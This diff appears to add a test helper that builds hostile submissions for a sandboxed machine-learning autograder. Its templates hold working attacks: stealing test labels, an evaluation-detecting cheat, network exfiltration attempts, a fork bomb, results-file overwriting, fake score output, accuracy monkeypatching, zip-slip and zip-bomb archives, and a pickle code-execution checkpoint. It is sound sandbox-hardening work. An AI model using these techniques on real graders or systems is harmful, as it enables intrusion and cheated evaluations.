@@ -1,0 +1,476 @@
+"""Builders for the hostile submissions (see ``tests/test_hostile.py``).
+
+Every submission is ``simple_cnn.py`` (the handout's SimpleCNN, really
+trained weights in ``simple_cnn.pth``) plus one attack. The attack code is
+plain source text: it only ever runs inside the sandbox worker, except the
+label thief, which ``thief_accuracy`` runs in the test process to prove it
+really wins when labels are readable.
+"""
+
+from __future__ import annotations
+
+import inspect
+import io
+import json
+import zipfile
+from pathlib import Path
+
+import torch
+
+from reference.lab2 import simple_cnn as ref_simple
+
+MEAN, STD = ref_simple.NORMALIZE["mean"], ref_simple.NORMALIZE["std"]
+FAKE_RESULTS = '{"score": 1000, "tests": [], "output": "HACKED by the submission"}'
+TAG = "HOSTILE"
+
+HEADER = """\
+import json, os, sys
+import torch
+from torch import nn
+
+REPORT = {}
+
+
+def report(**found):
+    REPORT.update(found)
+    print("__TAG__ " + json.dumps(REPORT, sort_keys=True), flush=True)
+
+
+def errname(exc):
+    return type(exc).__name__
+"""
+
+# Reads the test labels wherever the grader keeps them and, if that works,
+# answers every test image by a lookup on its pixels: 100% accuracy.
+THIEF = """\
+LOOKUP = {}
+
+
+def _remember(images, labels):
+    import numpy as np
+
+    images = np.asarray(images, dtype=np.uint8).reshape(len(labels), -1)
+    for row, label in zip(images, labels):
+        LOOKUP[row.tobytes()] = int(label)
+
+
+def steal(paths):
+    import glob
+    import pickle
+
+    import numpy as np
+
+    found = {}
+    try:
+        with open(paths["test_batch"], "rb") as handle:
+            batch = pickle.load(handle, encoding="latin1")
+        _remember(batch["data"], batch["labels"])
+        found["labels_data_root"] = "READ %d" % len(batch["labels"])
+    except Exception as exc:
+        found["labels_data_root"] = errname(exc)
+    try:
+        names = sorted(glob.glob(os.path.join(paths["cache"], "*.npz")))
+        if not names:
+            os.listdir(paths["cache"])  # tell "empty" from "not allowed to look"
+            raise FileNotFoundError("no cached split")
+        for name in names:
+            with np.load(name) as z:
+                _remember(z["images"], z["labels"])
+        found["labels_cache"] = "READ %d files" % len(names)
+    except Exception as exc:
+        found["labels_cache"] = errname(exc)
+    return found
+
+
+def cheat(x):
+    \"\"\"Logits that name the stolen label of every image we recognise.\"\"\"
+    mean = torch.tensor(__MEAN__).view(1, -1, 1, 1)
+    std = torch.tensor(__STD__).view(1, -1, 1, 1)
+    pixels = ((x.detach().cpu().float() * std + mean) * 255).round().clamp(0, 255).to(torch.uint8)
+    logits = torch.zeros(x.shape[0], 10)
+    hits = 0
+    for i, image in enumerate(pixels):
+        label = LOOKUP.get(image.numpy().tobytes())
+        if label is not None:
+            logits[i, label] = 10.0
+            hits += 1
+    return logits, hits
+"""
+
+MODEL = inspect.getsource(ref_simple.SimpleCNN)
+
+# The model's forward notices evaluation (inference mode, a big batch) and then
+# snoops for labels next to the test images and uses stolen ones if it has any.
+EVAL_AWARE_FORWARD = """
+    def forward(self, x):
+        honest = self.fc(self.dropout(torch.flatten(self.features(x), 1)))
+        evaluating = torch.is_inference_mode_enabled() or x.shape[0] > 64
+        if evaluating and "eval_detected" not in REPORT:
+            maps = open("/proc/self/maps").read().split()
+            images = next((p for p in maps if p.endswith("test_images.npy")), None)
+            beside = sorted(os.listdir(os.path.dirname(images))) if images else None
+            report(eval_detected=True, inputs_folder=beside)
+        if evaluating and LOOKUP:
+            logits, hits = cheat(x)
+            REPORT["cheated_images"] = REPORT.get("cheated_images", 0) + hits
+            return logits
+        return honest
+"""
+
+NETWORK = """\
+def network(paths):
+    import socket
+
+    found = {}
+    for name, family, address in (
+        ("net_loopback", socket.AF_INET, ("127.0.0.1", paths["port"])),
+        ("net_public", socket.AF_INET, ("1.1.1.1", 443)),
+        ("net_ipv6", socket.AF_INET6, ("::1", paths["port"])),
+        ("net_abstract_unix", socket.AF_UNIX, "\\0" + paths["abstract"]),
+    ):
+        try:
+            with socket.socket(family, socket.SOCK_STREAM) as s:
+                s.settimeout(3)
+                s.connect(address)
+                s.sendall(b"stolen labels go here")
+            found[name] = "CONNECTED"
+        except Exception as exc:
+            found[name] = errname(exc)
+    try:
+        socket.getaddrinfo("pypi.org", 443)
+        found["net_dns"] = "RESOLVED"
+    except Exception as exc:
+        found["net_dns"] = errname(exc)
+    return found
+"""
+
+# Forks until the kernel says no (a fresh small interpreter, so it is cheap),
+# reports how far it got, then cleans up after itself.
+FORKER = """\
+import os, signal, time
+kids, error = [], "none"
+for _ in range(3000):
+    try:
+        pid = os.fork()
+    except OSError as exc:
+        error = "%s errno %d" % (type(exc).__name__, exc.errno)
+        break
+    if pid == 0:
+        time.sleep(120)
+        os._exit(0)
+    kids.append(pid)
+print(len(kids), error)
+for pid in kids:
+    os.kill(pid, signal.SIGKILL)
+for pid in kids:
+    os.waitpid(pid, 0)
+"""
+
+# Outlives the worker and keeps overwriting results.json, racing the grader.
+DAEMON = """\
+import os, sys, time
+end = time.time() + 120
+while time.time() < end:
+    for target in sys.argv[1:]:
+        try:
+            with open(target, "w") as handle:
+                handle.write(__FAKE__)
+        except OSError:
+            pass
+    time.sleep(0.1)
+"""
+
+SINK_ATTACKS = """\
+PATHS = json.loads(__PATHS__)
+FAKE = __FAKE__
+TARGETS = ["/autograder/results/results.json", "results/results.json", PATHS["results"]]
+
+
+def write_results():
+    found = {}
+    for key, target in zip(("results_gradescope", "results_relative", "results_real"), TARGETS):
+        try:
+            os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
+            with open(target, "w") as handle:
+                handle.write(FAKE)
+            found[key] = "WRITTEN"
+        except Exception as exc:
+            found[key] = errname(exc)
+    return found
+
+
+def resources():
+    import mmap
+    import signal
+    import subprocess
+    import tempfile
+
+    found = {}
+    try:
+        hoard = bytearray(64 << 30)
+        found["memory_64g"] = "ALLOCATED %d" % len(hoard)
+    except MemoryError as exc:
+        found["memory_64g"] = errname(exc)
+    try:
+        mmap.mmap(-1, 32 << 30, flags=mmap.MAP_SHARED)
+        found["memory_shared_32g"] = "MAPPED"
+    except Exception as exc:
+        found["memory_shared_32g"] = errname(exc)
+    try:
+        with open(os.path.join(tempfile.gettempdir(), "huge"), "wb") as handle:
+            handle.truncate(4 << 30)
+        found["file_4g"] = "CREATED"
+    except OSError as exc:
+        found["file_4g"] = "%s errno %d" % (errname(exc), exc.errno)
+    done = subprocess.run([sys.executable, "-I", "-S", "-c", __FORKER__], capture_output=True, text=True)
+    forks, _, error = done.stdout.strip().partition(" ")
+    found["forks"], found["fork_error"] = int(forks or -1), error
+    daemon = subprocess.Popen(
+        [sys.executable, "-I", "-S", "-c", __DAEMON__, *TARGETS], start_new_session=True
+    )
+    found["daemon_started"] = daemon.pid > 0
+    for leftover in PATHS["leftovers"]:
+        try:
+            with open(leftover, "w") as handle:
+                handle.write("left behind")
+            found.setdefault("leftovers_written", []).append(leftover)
+        except OSError:
+            pass
+    try:
+        os.kill(os.getppid(), signal.SIGKILL) if os.getppid() != 1 else None
+        found["kill_parent"] = "NOT ATTEMPTED (pid namespace)" if os.getppid() == 1 else "SENT"
+    except OSError as exc:
+        found["kill_parent"] = errname(exc)
+    return found
+
+
+def monkeypatch():
+    import builtins
+
+    import numpy
+
+    torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
+    torch.eq = torch.Tensor.eq = lambda *a, **k: torch.tensor(True)
+    numpy.mean = lambda *a, **k: 1.0
+    builtins.accuracy = 1.0
+    try:
+        import sklearn.metrics
+
+        sklearn.metrics.accuracy_score = lambda *a, **k: 1.0
+    except ImportError:
+        pass
+    print("Test Accuracy: 100.00%")
+    print('{"id": 3, "ok": true, "result": {"accuracy": 1.0, "score": 1000}}', flush=True)
+    return {"monkeypatched": True}
+
+
+def confinement():
+    import resource
+    import socket
+
+    status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines())
+    names = ("NPROC", "FSIZE", "NOFILE", "CORE", "AS")
+    return {
+        "uid": os.getuid(),
+        "cap_eff": status["CapEff"].strip(),
+        "no_new_privs": status["NoNewPrivs"].strip(),
+        "seccomp_mode": status["Seccomp"].strip(),
+        "pids_visible": sum(p.isdigit() for p in os.listdir("/proc")),
+        "env": sorted(os.environ),
+        "hostname": socket.gethostname(),
+        "root": sorted(os.listdir("/")),
+        "rlimits": {n: resource.getrlimit(getattr(resource, "RLIMIT_" + n))[0] for n in names},
+    }
+
+
+def flood():
+    chunk = "A" * (1 << 20)
+    for _ in range(50):
+        sys.stdout.write(chunk)
+    sys.stdout.flush()
+    return {"flooded_mb": 50}
+
+
+found = {}
+ATTACKS = (confinement, write_results, lambda: steal(PATHS), lambda: network(PATHS), resources)
+ATTACKS += (monkeypatch, flood)
+for attack in ATTACKS:
+    try:
+        found.update(attack())
+    except BaseException as exc:
+        found.setdefault("attack_errors", []).append(errname(exc))
+report(**found)
+"""
+
+
+def fill(template: str, **values: object) -> str:
+    """Put ``repr(value)`` where the template says ``__KEY__`` (no % or {} clashes with the code)."""
+    for key, value in values.items():
+        template = template.replace(f"__{key.upper()}__", repr(value))
+    return template
+
+
+def _module(*parts: str, forward: str | None = None) -> str:
+    model = MODEL if forward is None else MODEL.split("    def forward")[0] + forward
+    header = HEADER.replace("__TAG__", TAG)
+    thief = fill(THIEF, mean=tuple(MEAN), std=tuple(STD))
+    return "\n\n".join([header, *(thief if p is THIEF else p for p in parts), model])
+
+
+def honest_source() -> str:
+    return "import torch\nfrom torch import nn\n\n\n" + MODEL
+
+
+def write(folder: Path, source: str, state: dict | None, extra: dict[str, bytes] | None = None) -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "simple_cnn.py").write_text(source)
+    if state is not None:
+        torch.save(state, folder / "simple_cnn.pth")
+    for name, blob in (extra or {}).items():
+        (folder / name).write_bytes(blob)
+    return folder
+
+
+def honest(folder: Path, state: dict) -> Path:
+    return write(folder, honest_source(), state)
+
+
+def thief(folder: Path, state: dict, paths: dict) -> Path:
+    """Only the label theft and the evaluation-aware forward that uses it."""
+    attack = f"PATHS = json.loads({json.dumps(paths)!r})\nreport(**steal(PATHS))\n"
+    return write(folder, _module(THIEF, attack, forward=EVAL_AWARE_FORWARD), state)
+
+
+def sink(folder: Path, state: dict, paths: dict) -> Path:
+    """Every attack that leaves the model working, in one submission.
+
+    Also: files named like modules the grader or the worker import, symlinks
+    to grader files, and a zip inside the submission with ``../`` paths and a
+    symlink entry (unpacked by the same code as a top-level zip)."""
+    daemon = DAEMON.replace("__FAKE__", repr(FAKE_RESULTS))
+    attacks = fill(SINK_ATTACKS, paths=json.dumps(paths), fake=FAKE_RESULTS, forker=FORKER, daemon=daemon)
+    write(folder, _module(THIEF, NETWORK, attacks, forward=EVAL_AWARE_FORWARD), state)
+    shadow = f"print('{TAG}-SHADOW', __name__, flush=True)\nraise SystemExit('shadowed')\n"
+    for name in ("torch.py", "numpy.py", "json.py", "autograder.py", "conftest.py", "sitecustomize.py"):
+        (folder / name).write_text(shadow)
+    for name, target in paths["symlinks"].items():
+        (folder / name).symlink_to(target)
+    with zipfile.ZipFile(folder / "extras.zip", "w") as zf:
+        for name in paths["zip_slip"]:
+            zf.writestr(name, "escaped the submission folder\n")
+        link = zipfile.ZipInfo("extras/labels_link")
+        link.external_attr = 0o120777 << 16
+        zf.writestr(link, paths["test_batch"])
+    return folder
+
+
+def import_exit(folder: Path, state: dict, how: str) -> Path:
+    """``os._exit(0)`` or ``sys.exit(0)`` while being imported, after printing a fake score."""
+    stop = {"os._exit": "os._exit(0)", "sys.exit": "sys.exit(0)"}[how]
+    attack = f"print('Test Accuracy: 100.00%', flush=True)\n{stop}\n"
+    return write(folder, _module(attack), state)
+
+
+def import_loop(folder: Path, state: dict) -> Path:
+    return write(folder, _module("while True:\n    pass\n"), state)
+
+
+LOOP_FORWARD = """
+    def forward(self, x):
+        if x.shape[0] == 8:  # the forward check's batch: hang there, answer honestly elsewhere
+            while True:
+                pass
+        return self.fc(self.dropout(torch.flatten(self.features(x), 1)))
+"""
+
+
+def forward_loop(folder: Path, state: dict) -> Path:
+    return write(folder, _module(forward=LOOP_FORWARD), state)
+
+
+# Attacks on the wire format: a 6 MiB answer without a newline on the reply
+# descriptor during the forward check, and a FIFO where the logits should be.
+PROTOCOL = """
+import numpy
+
+_save = numpy.save
+
+
+def _fifo_instead(path, *args, **kwargs):
+    if str(path).endswith(".npy") and "logits" in str(path):
+        os.mkfifo(path)
+        return None
+    return _save(path, *args, **kwargs)
+
+
+numpy.save = _fifo_instead
+REPLY_FD = int(sys.argv[sys.argv.index("--reply-fd") + 1])
+"""
+
+PROTOCOL_FORWARD = """
+    def forward(self, x):
+        if x.shape[0] == 8:
+            os.write(REPLY_FD, b"[" * (6 << 20))
+        return self.fc(self.dropout(torch.flatten(self.features(x), 1)))
+"""
+
+
+def protocol(folder: Path, state: dict) -> Path:
+    return write(folder, _module(PROTOCOL, forward=PROTOCOL_FORWARD), state)
+
+
+class _Payload:
+    """Unpickling this runs code: the classic ``__reduce__`` exploit."""
+
+    def __init__(self, marker: Path) -> None:
+        self.marker = marker
+
+    def __reduce__(self):
+        code = f"print('{TAG}-PAYLOAD-RAN', flush=True); open({str(self.marker)!r}, 'w').write('pwned')"
+        return (exec, (code,))
+
+
+def payload_checkpoint(folder: Path, marker: Path) -> Path:
+    """A .pth whose unpickling would create ``marker``."""
+    buffer = io.BytesIO()
+    torch.save({"fc.weight": _Payload(marker)}, buffer)
+    return write(folder, honest_source(), None, {"simple_cnn.pth": buffer.getvalue()})
+
+
+def whole_model(folder: Path, state: dict) -> Path:
+    """``torch.save(model)`` instead of ``torch.save(model.state_dict())``."""
+    model = ref_simple.SimpleCNN()
+    model.load_state_dict(state)
+    buffer = io.BytesIO()
+    torch.save(model, buffer)
+    return write(folder, honest_source(), None, {"simple_cnn.pth": buffer.getvalue()})
+
+
+def zip_bomb(target: Path, state: dict) -> Path:
+    """An honest submission plus one entry that inflates to 1.5 GiB of zeros (~1.5 MB on disk)."""
+    folder = honest(target.with_suffix(""), state)
+    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
+        for path in sorted(folder.iterdir()):
+            zf.write(path, path.name)
+        with zf.open("data.bin", "w", force_zip64=True) as entry:
+            block = bytes(64 << 20)
+            for _ in range(24):
+                entry.write(block)
+    return target
+
+
+def thief_accuracy(paths: dict, state: dict, images, labels) -> float:
+    """Run the thief's own code here, where the labels are readable: its accuracy."""
+    import numpy as np
+
+    namespace: dict = {"__name__": "thief_control"}
+    exec(compile(_module(THIEF, forward=EVAL_AWARE_FORWARD), "thief", "exec"), namespace)
+    assert namespace["steal"](paths)["labels_data_root"].startswith("READ")
+    model = namespace["SimpleCNN"]()
+    model.load_state_dict(state)
+    order = np.random.default_rng(0).permutation(len(labels))
+    x = torch.from_numpy(images[order]).float().div(255)
+    x = (x - torch.tensor(MEAN).view(1, -1, 1, 1)) / torch.tensor(STD).view(1, -1, 1, 1)
+    with torch.inference_mode():
+        predicted = model.eval()(x).argmax(1).numpy()
+    return float((predicted == labels[order]).mean())
